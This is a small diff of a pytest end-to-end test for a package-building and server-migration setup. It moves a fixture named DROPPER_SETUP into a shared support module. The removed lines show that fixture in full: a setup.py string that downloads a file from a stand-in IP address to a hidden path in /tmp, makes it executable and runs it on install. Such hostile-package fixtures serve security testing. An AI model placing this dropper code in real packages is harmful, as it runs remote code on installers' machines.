@@ -9,17 +9,10 @@ from __future__ import annotations
 import pytest
 
 from distbuilder import SdistBuilder, WheelBuilder
-from support import LAYOUT, Server, fresh_bucket_env, fresh_database, installed_versions
+from support import DROPPER_SETUP, LAYOUT, Server, fresh_bucket_env, fresh_database, installed_versions
 
 pytestmark = pytest.mark.skipif(LAYOUT != "cluster", reason="migrating into PostgreSQL needs the cluster layout (PALISADE_E2E_LAYOUT=cluster)")
 
-DROPPER_SETUP = (
-    "import os, urllib.request\n"
-    "from setuptools import setup\n"
-    "urllib.request.urlretrieve('http://203.0.113.9/payload', '/tmp/.cache-update')\n"
-    "os.system('chmod +x /tmp/.cache-update && /tmp/.cache-update')\n"
-    "setup(name='x', version='1')\n"
-)
 
 
 def snapshot(srv: Server, projects: list[str]) -> dict[str, object]:
